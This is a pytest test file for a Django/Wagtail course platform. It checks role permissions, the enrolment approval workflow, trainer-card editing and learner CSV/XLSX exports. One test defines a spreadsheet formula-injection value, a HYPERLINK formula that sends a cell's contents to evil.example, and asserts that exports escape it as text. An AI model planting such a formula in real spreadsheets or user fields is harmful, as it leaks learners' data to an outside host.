import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Page

from accounts.factories import UserFactory
from courses import services
from courses.factories import TrainerFactory, build_course
from courses.models import Enrolment, Trainer
from courses.roles import COURSE_MANAGERS, TRAINERS

pytestmark = pytest.mark.django_db


def staff(group_name: str, **fields):
    user = UserFactory(**fields)
    user.groups.add(Group.objects.get(name=group_name))
    return user


def test_trainer_sees_only_the_learners_of_their_own_courses(client, catalogue):
    trainer_user = staff(TRAINERS, full_name="Tina Trainer")
    mine, my_lessons = build_course(parent=catalogue, title="My course")
    mine.trainers.add(TrainerFactory(name="Tina Trainer", user=trainer_user))
    mine.save_revision().publish()
    other, _ = build_course(parent=catalogue, title="Someone else's course")
    ana, bor = (
        UserFactory(full_name="Ana Learner"),
        UserFactory(full_name="Bor Outsider"),
    )
    services.enrolment_create(user=ana, course=mine)
    services.lesson_complete(user=ana, lesson=my_lessons[0])
    services.enrolment_create(user=bor, course=other)
    client.force_login(trainer_user)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"  # the admin follows the browser

    page = client.get(reverse("courses_learners")).content.decode()
    assert "Ana Learner" in page and "25%" in page
    assert "Bor Outsider" not in page

    export = client.get(reverse("courses_learners"), {"export": "csv"})
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Learner", "E-mail", "Course"]
    assert [row[0] for row in rows[1:]] == ["Ana Learner"]
    assert rows[1][4] == "25%"
    xlsx = client.get(reverse("courses_learners"), {"export": "xlsx"})
    assert xlsx.status_code == 200


def test_learners_and_anonymous_visitors_cannot_open_staff_views(client, catalogue):
    course, _ = build_course(parent=catalogue, enrolment_mode="approval")
    pending = services.enrolment_create(user=UserFactory(), course=course)
    for url in (
        reverse("courses_learners"),
        reverse("courses_enrolment_requests"),
    ):
        assert client.get(url).status_code == 302  # to the admin log-in
    client.force_login(UserFactory())
    assert client.get(reverse("courses_learners")).status_code in (302, 403)
    response = client.post(
        reverse("courses_enrolment_decide", args=[pending.pk]), {"decision": "approve"}
    )
    assert response.status_code in (302, 403)
    pending.refresh_from_db()
    assert pending.status == Enrolment.Status.PENDING


def test_trainer_cannot_decide_requests(client, catalogue):
    course, _ = build_course(parent=catalogue, enrolment_mode="approval")
    pending = services.enrolment_create(user=UserFactory(), course=course)
    client.force_login(staff(TRAINERS))
    response = client.post(
        reverse("courses_enrolment_decide", args=[pending.pk]), {"decision": "approve"}
    )
    # Wagtail answers a refused admin view with a redirect to the dashboard.
    assert response.status_code in (302, 403)
    assert response.get("Location", "") != reverse("courses_enrolment_requests")
    pending.refresh_from_db()
    assert pending.status == Enrolment.Status.PENDING


def test_course_manager_approves_a_request_in_the_admin(client, catalogue, mailoutbox):
    course, _ = build_course(
        parent=catalogue, enrolment_mode="approval", title="Agents"
    )
    pending = services.enrolment_create(
        user=UserFactory(full_name="Ana Learner"), course=course
    )
    client.force_login(staff(COURSE_MANAGERS))
    page = client.get(reverse("courses_enrolment_requests")).content.decode()
    assert "Ana Learner" in page and "Agents" in page
    response = client.post(
        reverse("courses_enrolment_decide", args=[pending.pk]), {"decision": "approve"}
    )
    assert response.status_code == 302
    pending.refresh_from_db()
    assert pending.status == Enrolment.Status.ACTIVE


def test_trainers_edit_courses_but_only_managers_publish(catalogue):
    trainer, manager = staff(TRAINERS), staff(COURSE_MANAGERS)
    course, _ = build_course(parent=catalogue)
    home = Page.objects.get(pk=catalogue.get_parent().pk)

    trainer_perms = course.permissions_for_user(trainer)
    assert trainer_perms.can_edit()
    assert not trainer_perms.can_publish()
    assert not home.permissions_for_user(trainer).can_edit()
    assert catalogue.permissions_for_user(trainer).can_add_subpage()

    assert course.permissions_for_user(manager).can_publish()
    assert not home.permissions_for_user(manager).can_edit()
    # Courses go through the course review by course managers.
    workflow = course.get_workflow()
    assert workflow is not None and workflow.name == "Course review"


def test_a_trainers_submission_waits_for_a_course_manager(catalogue):
    from courses.roles import COURSE_REVIEW_TASK, roles_setup

    trainer, manager = staff(TRAINERS), staff(COURSE_MANAGERS)
    course, _ = build_course(parent=catalogue)
    course.title = "Pricing, second edition"
    revision = course.save_revision(user=trainer)

    # What the editor's "Submit to Course review" does.
    state = course.get_workflow().start(course, trainer)

    state.refresh_from_db()
    task = state.current_task_state.task.specific
    assert state.status == state.STATUS_IN_PROGRESS and task.name == COURSE_REVIEW_TASK
    course.refresh_from_db()
    assert course.title != "Pricing, second edition"  # not published by itself
    assert "approve" in [action for action, *_ in task.get_actions(course, manager)]
    assert not task.get_actions(course, trainer)

    task.on_action(state.current_task_state, manager, "approve")
    course.refresh_from_db()
    assert course.live_revision_id == revision.pk
    assert course.title == "Pricing, second edition"

    # Running the set-up again (every migrate) adds no task.
    roles_setup()
    roles_setup()
    assert course.get_workflow().tasks.count() == 1


def test_a_review_workflow_left_without_its_task_is_repaired(catalogue):
    from wagtail.models import WorkflowTask

    from courses.roles import roles_setup

    workflow = catalogue.get_workflow()
    WorkflowTask.objects.filter(workflow=workflow).delete()
    roles_setup()
    assert [task.name for task in workflow.tasks] == ["Course manager review"]


def test_trainers_upload_and_choose_images_and_documents(client, catalogue):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from wagtail.documents import get_document_model
    from wagtail.images import get_image_model
    from wagtail.images.tests.utils import get_test_image_file

    trainer = staff(TRAINERS)
    client.force_login(trainer)
    response = client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Studio",
            "file": SimpleUploadedFile(
                "studio.png", get_test_image_file().file.getvalue(), "image/png"
            ),
        },
    )
    assert response.status_code == 302
    image = get_image_model().objects.get(title="Studio")
    response = client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Worksheet",
            "file": SimpleUploadedFile("worksheet.txt", b"Day rate:", "text/plain"),
        },
    )
    assert response.status_code == 302
    document = get_document_model().objects.get(title="Worksheet")

    chooser = client.get(reverse("wagtailimages_chooser:choose")).content.decode()
    assert "Studio" in chooser
    chosen = client.get(reverse("wagtaildocs_chooser:chosen", args=[document.pk]))
    assert chosen.status_code == 200
    # Their own uploads they edit; other people's they only choose.
    assert client.get(reverse("wagtailimages:edit", args=[image.pk])).status_code == 200
    other = get_image_model().objects.create(
        title="Someone else's", file=get_test_image_file(), uploaded_by_user=None
    )
    assert client.get(reverse("wagtailimages:edit", args=[other.pk])).status_code == 302


def trainer_card_form(card, **changes) -> dict:
    return {"name": card.name, "bio": card.bio, "photo": "", **changes}


def test_a_trainer_edits_only_their_own_card_and_never_its_account(client, catalogue):
    """Linking someone else's card to oneself opened that course's learners."""
    tina = staff(TRAINERS, full_name="Tina Trainer")
    ana_user = staff(TRAINERS, full_name="Ana Author")
    tina_card = TrainerFactory(name="Tina Trainer", user=tina)
    ana_card = TrainerFactory(name="Ana Author", user=ana_user)
    course, _ = build_course(parent=catalogue, title="Ana's course")
    course.trainers.add(ana_card)
    course.save_revision().publish()
    services.enrolment_create(
        user=UserFactory(full_name="Lara Learner", email="lara@example.com"),
        course=course,
    )
    client.force_login(tina)

    # Someone else's card: neither the form nor a save.
    edit_ana = reverse("wagtailsnippets_courses_trainer:edit", args=[ana_card.pk])
    assert client.get(edit_ana).status_code == 302
    response = client.post(edit_ana, trainer_card_form(ana_card, user=tina.pk))
    assert response.status_code == 302
    assert response.url == reverse("wagtailadmin_home")
    ana_card.refresh_from_db()
    assert ana_card.user == ana_user

    # Their own card: the text, not the account (no select of every account).
    edit_own = reverse("wagtailsnippets_courses_trainer:edit", args=[tina_card.pk])
    form_page = client.get(edit_own)
    assert form_page.status_code == 200
    assert "user" not in form_page.context["form"].fields
    assert "Lara Learner" not in form_page.content.decode()
    assert "Ana Author" not in form_page.content.decode()
    response = client.post(
        edit_own, trainer_card_form(tina_card, name="Tina T.", user=ana_user.pk)
    )
    assert response.status_code == 302
    tina_card.refresh_from_db()
    assert (tina_card.name, tina_card.user) == ("Tina T.", tina)

    # The list links to the card they may edit only.
    listing = client.get(reverse("wagtailsnippets_courses_trainer:list"))
    assert edit_own in listing.content.decode()
    assert edit_ana not in listing.content.decode()

    # A new card made by a trainer is linked to no account.
    client.post(
        reverse("wagtailsnippets_courses_trainer:add") + "?locale=en",
        trainer_card_form(Trainer(name="Ana Author"), user=tina.pk),
    )
    assert list(
        Trainer.objects.filter(name="Ana Author").values_list("user", flat=True)
    ) == [ana_user.pk, None]

    page = client.get(reverse("courses_learners")).content.decode()
    assert "Lara Learner" not in page and "lara@example.com" not in page


def test_a_course_manager_links_cards_to_accounts_that_may_teach(client, catalogue):
    manager = staff(COURSE_MANAGERS, full_name="Maja Manager")
    tina = staff(TRAINERS, full_name="Tina Trainer")
    lara = UserFactory(full_name="Lara Learner")
    card = TrainerFactory(name="Tina Trainer")
    client.force_login(manager)
    edit = reverse("wagtailsnippets_courses_trainer:edit", args=[card.pk])

    choices = client.get(edit).context["form"].fields["user"].queryset
    # Those who may teach (and the administrators), not every learner.
    assert {manager, tina} <= set(choices)
    assert lara not in choices
    assert all(user.is_superuser or user.groups.exists() for user in choices)
    response = client.post(edit, trainer_card_form(card, user=tina.pk))
    assert response.status_code == 302
    card.refresh_from_db()
    assert card.user == tina
    # An account that may not teach is refused next to the field.
    response = client.post(edit, trainer_card_form(card, user=lara.pk))
    assert response.status_code == 200
    assert "user" in response.context["form"].errors
    card.refresh_from_db()
    assert card.user == tina


def test_the_course_form_offers_each_trainer_once(client, catalogue):
    """A trainer has a card per language; the course form listed both."""
    from wagtail.models import Locale

    english = TrainerFactory(
        name="Tina Trainer", locale=Locale.objects.get(language_code="en")
    )
    english.copy_for_translation(Locale.objects.get(language_code="sl")).save()
    course, _ = build_course(parent=catalogue, title="My course")
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    form = client.get(reverse("wagtailadmin_pages:edit", args=[course.pk])).context[
        "form"
    ]
    offered = list(form.fields["trainers"].queryset)
    # One card per trainer (the demo's trainer has two as well), in English.
    assert [card for card in offered if card.name == "Tina Trainer"] == [english]
    assert len({card.translation_key for card in offered}) == len(offered)
    assert {card.locale.language_code for card in offered} == {"en"}


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B3,"Ana")'


def test_learners_exports_hold_no_formulas_and_typed_cells(client, catalogue):
    """A learner's name and a course title are text in the files, never formulas;
    progress is a number, times are Ljubljana's, completed learners say so."""
    manager = staff(COURSE_MANAGERS)
    course, lessons = build_course(
        parent=catalogue, title="=1+1 pricing", lessons_per_module=(2, 2)
    )
    ana = UserFactory(full_name=HOSTILE_NAME)
    services.enrolment_create(user=ana, course=course)
    services.lesson_complete(user=ana, lesson=lessons[0])
    bor = UserFactory(full_name="Bor Finisher")
    services.enrolment_create(user=bor, course=course)
    for lesson in lessons:
        services.lesson_complete(user=bor, lesson=lesson)
    summer = datetime.datetime(2026, 7, 1, 10, 5, tzinfo=datetime.UTC)  # 12:05 local
    Enrolment.objects.filter(user=ana).update(enrolled_at=summer)
    client.force_login(manager)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"

    listing = client.get(reverse("courses_learners")).context["object_list"]
    states = {str(enrolment.user): str(enrolment.state) for enrolment in listing}
    assert states[str(bor)] == "Completed" and states[str(ana)] == "Enrolled"

    export = client.get(reverse("courses_learners"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(export.content))
    assert workbook.sheetnames == ["Learners"]
    rows = list(workbook.active.iter_rows())
    headings = [cell.value for cell in rows[0]]
    assert headings[3:7] == ["Status", "Progress", "Quizzes passed", "Best quiz score"]
    by_email = {row[1].value: row for row in rows[1:]}
    ana_row, bor_row = by_email[ana.email], by_email[bor.email]
    name, course_title = ana_row[0], ana_row[2]
    assert name.data_type == "s" and name.value == "'" + HOSTILE_NAME
    assert course_title.data_type == "s" and course_title.value == "'=1+1 pricing"
    progress = ana_row[4]
    assert progress.value == 0.25 and progress.number_format == "0%"
    enrolled = ana_row[headings.index("Enrolled")]
    assert enrolled.is_date
    assert enrolled.value == datetime.datetime(2026, 7, 1, 12, 5)
    assert enrolled.number_format == "d mmm yyyy hh:mm"
    assert bor_row[3].value == "Completed" and bor_row[4].value == 1

    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "sl"
    export = client.get(reverse("courses_learners"), {"export": "csv"})
    text = b"".join(export.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0][:3] == ["Udeleženec", "E-pošta", "Tečaj"]
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email[ana.email][0] == "'" + HOSTILE_NAME
    assert by_email[ana.email][2] == "'=1+1 pricing"
    assert by_email[ana.email][4] == "25%"
    assert by_email[ana.email][headings.index("Enrolled")] == "2026-07-01 12:05"
    assert by_email[bor.email][3] == "Zaključil(-a)"
